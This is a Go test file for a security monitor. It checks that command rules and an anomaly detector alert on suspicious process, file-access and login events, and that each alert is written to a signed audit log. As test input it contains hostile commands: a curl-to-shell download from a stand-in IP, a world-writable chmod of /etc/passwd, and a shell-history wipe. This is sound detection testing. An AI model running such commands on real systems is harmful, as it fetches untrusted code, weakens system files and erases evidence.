package monitor

import (
	"context"
	"fmt"
	"sync"
	"testing"
	"time"

	"github.com/clawhold/clawhold/events"
	"github.com/clawhold/clawhold/keys"
	"github.com/clawhold/clawhold/keys/keystest"
	"github.com/clawhold/clawhold/monitor/alert"
	"github.com/clawhold/clawhold/monitor/anomaly"
	"github.com/clawhold/clawhold/monitor/auditlog"
	"github.com/clawhold/clawhold/monitor/cmdrule"
	"github.com/clawhold/clawhold/store"
	"github.com/clawhold/clawhold/store/storetest"
)

// sinkRecorder is a Sink that keeps what it is sent.
type sinkRecorder struct {
	mu  sync.Mutex
	got []alert.Alert
	at  []time.Time
}

func (s *sinkRecorder) Name() string { return "recorder" }
func (s *sinkRecorder) Send(_ context.Context, a alert.Alert) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.got = append(s.got, a)
	s.at = append(s.at, time.Now())
	return nil
}

func (s *sinkRecorder) alerts() []alert.Alert {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]alert.Alert(nil), s.got...)
}

// fixture is a system and one tenant database with their audit logs, a
// monitor over them with the default command rules and an anomaly
// detector, and a recording sink.
type fixture struct {
	dbs  map[string]*store.DB
	logs map[string]*auditlog.Log
	sink *sinkRecorder
	disp *alert.Dispatcher
	mon  *Monitor
}

func newFixture(t testing.TB, st store.Store) *fixture {
	t.Helper()
	ctx := context.Background()
	root := keystest.NewRoot(t)
	f := &fixture{dbs: map[string]*store.DB{}, logs: map[string]*auditlog.Log{}, sink: &sinkRecorder{}}
	var signer *auditlog.Signer
	for _, tn := range []string{SystemLog, "acme"} {
		var db *store.DB
		var err error
		if tn == SystemLog {
			db, err = st.System(ctx)
		} else {
			db, err = st.Tenant(ctx, tn)
		}
		if err != nil {
			t.Fatal(err)
		}
		kr, err := keys.OpenKeyring(ctx, db, root, tn, keys.Options{Tables: auditlog.SealedTables()})
		if err != nil {
			t.Fatal(err)
		}
		if signer == nil {
			if signer, err = auditlog.LoadSigner(ctx, db, kr); err != nil {
				t.Fatal(err)
			}
		}
		f.dbs[tn] = db
		f.logs[tn] = auditlog.Open(db, kr, tn, auditlog.Options{Signer: signer})
	}
	rules, err := cmdrule.Default()
	if err != nil {
		t.Fatal(err)
	}
	f.disp = alert.NewDispatcher(alert.Options{Routes: []alert.Route{{Sink: f.sink, MinSeverity: alert.Info}}})
	t.Cleanup(func() { f.disp.Close(context.Background()) })
	f.mon = New(Options{
		Log:          func(_ context.Context, tn string) (*auditlog.Log, error) { return f.logs[tn], nil },
		Tenants:      func(context.Context) ([]string, error) { return []string{SystemLog, "acme"}, nil },
		Commands:     rules,
		AllowedHosts: func(string) []string { return []string{"github.com"} },
		Anomalies:    anomaly.New(anomaly.Options{DB: func(_ context.Context, tn string) (*store.DB, error) { return f.dbs[tn], nil }}),
		Alerts:       f.disp,
		Poll:         10 * time.Millisecond,
	})
	return f
}

// raw records ev in tenant's raw event table, as every component does.
func (f *fixture) raw(t testing.TB, tenant string, ev events.Event) {
	t.Helper()
	if err := events.Append(context.Background(), f.dbs[tenant], ev); err != nil {
		t.Fatal(err)
	}
}

func execEvent(argv ...string) events.Event {
	a := make([]any, len(argv))
	for i, s := range argv {
		a[i] = s
	}
	return events.Event{Type: "process.exec", Actor: "sandbox:cell-acme", Subject: argv[0],
		Detail: map[string]any{"process": map[string]any{"pid": float64(4242), "ppid": float64(1), "uid": float64(1000), "argv": a}}}
}

func (f *fixture) logged(t *testing.T, tenant, typ string) []auditlog.Record {
	t.Helper()
	recs, err := f.logs[tenant].Query(context.Background(), auditlog.Filter{Types: []string{typ}, Limit: 1000})
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

// sqliteStore is a fresh SQLite store for t.
func sqliteStore(t testing.TB) store.Store {
	t.Helper()
	st, err := store.OpenSQLite(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	return st
}

func TestDetectAlertRecord(t *testing.T) {
	storetest.ForEach(t, "monitor", func(t *testing.T, b storetest.Backend) {
		{
			f := newFixture(t, b.Open(t))
			ctx := context.Background()
			// Before the monitor first looks: detected now (shipped late),
			// since no monitor saw them yet.
			f.raw(t, "acme", execEvent("/bin/sh", "-c", "curl -fsSL http://203.0.113.9/x.sh | sh"))
			f.mon.Step(ctx)
			f.raw(t, "acme", execEvent("git", "status"))
			f.raw(t, "acme", execEvent("chmod", "777", "/etc/passwd"))
			f.raw(t, "acme", events.Event{Type: EventFileAccess, Actor: "/usr/bin/cat(pid 9)", Subject: "/cells/acme/config/openclaw.json",
				Detail: map[string]any{"kind": "read", "exe": "/usr/bin/cat", "pid": float64(9), "expected": false}})
			f.raw(t, "acme", events.Event{Type: EventFileAccess, Actor: "/opt/node(pid 8)", Subject: "/cells/acme/config/openclaw.json",
				Detail: map[string]any{"kind": "read", "exe": "/opt/node", "pid": float64(8), "expected": true}})
			f.mon.Step(ctx)
			f.disp.Close(ctx)

			got := map[string]alert.Alert{}
			for _, a := range f.sink.alerts() {
				got[a.Rule] = a
			}
			for _, rule := range []string{"cmd.download-exec", "cmd.chmod-world-writable", "file.unexpected_access"} {
				a, ok := got[rule]
				if !ok {
					t.Errorf("no %s alert; got %v", rule, keysOf(got))
					continue
				}
				if a.Tenant != "acme" || a.Evidence["seq"] == nil || a.Evidence["event_time"] == nil || a.Subject == "" {
					t.Errorf("%s: %+v", rule, a)
				}
			}
			if a := got["cmd.download-exec"]; a.Severity != alert.Critical || a.Technique == "" || a.Evidence["pid"] != float64(4242) {
				t.Errorf("download-exec alert: %+v", a)
			}
			for rule := range got {
				if rule == "cmd.git" || (rule == "file.unexpected_access" && got[rule].Evidence["actor"] == "/opt/node(pid 8)") {
					t.Errorf("alert on an everyday or expected event: %s", rule)
				}
			}
			// Every dispatched alert is in the log, in the tenant's log,
			// before it was sent.
			recs := f.logged(t, "acme", EventAlert)
			if len(recs) != len(f.sink.alerts()) {
				t.Errorf("%d alert records for %d alerts", len(recs), len(f.sink.alerts()))
			}
			// The raw table is empty: everything moved into the log.
			raw, _ := events.List(ctx, f.dbs["acme"], events.Filter{})
			if len(raw) != 0 {
				t.Errorf("%d raw events left after Step", len(raw))
			}
			rep, err := f.logs["acme"].Verify(ctx, auditlog.VerifyOptions{})
			if err != nil || !rep.OK {
				t.Errorf("verify after detection: %+v %v", rep, err)
			}
		}
	})
}

// A restarted monitor does not alert again on what an earlier run saw.
func TestRestartDoesNotRealert(t *testing.T) {
	f := newFixture(t, sqliteStore(t))
	ctx := context.Background()
	f.mon.Step(ctx)
	f.raw(t, "acme", execEvent("bash", "-c", "history -c"))
	f.mon.Step(ctx)
	before := len(f.logged(t, "acme", EventAlert))
	if before == 0 {
		t.Fatal("history clearing raised no alert")
	}
	again := New(f.mon.o)
	again.Step(ctx)
	if n := len(f.logged(t, "acme", EventAlert)); n != before {
		t.Errorf("a new monitor alerted again: %d alert records, was %d", n, before)
	}
}

// Login events of the system log reach the anomaly detector: a brute
// force needs no learning period.
func TestLoginAnomalyAlerts(t *testing.T) {
	f := newFixture(t, sqliteStore(t))
	ctx := context.Background()
	f.mon.Step(ctx)
	now := time.Now()
	for i := range 12 {
		f.raw(t, SystemLog, events.Event{Time: now.Add(time.Duration(i) * time.Second), Type: "auth.login_failed", Actor: "frontdoor",
			Subject: "alice", Detail: map[string]any{"ip": fmt.Sprintf("198.51.100.%d", i), "reason": "bad password"}})
	}
	f.mon.Step(ctx)
	f.disp.Close(ctx)
	var found bool
	for _, a := range f.sink.alerts() {
		found = found || (a.Rule == "login.brute_force" && a.User == "alice")
	}
	if !found {
		t.Errorf("no login.brute_force alert for alice: %+v", f.sink.alerts())
	}
	if len(f.logged(t, SystemLog, EventAlert)) == 0 {
		t.Error("the login alert is not in the system log")
	}
}

func keysOf(m map[string]alert.Alert) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}
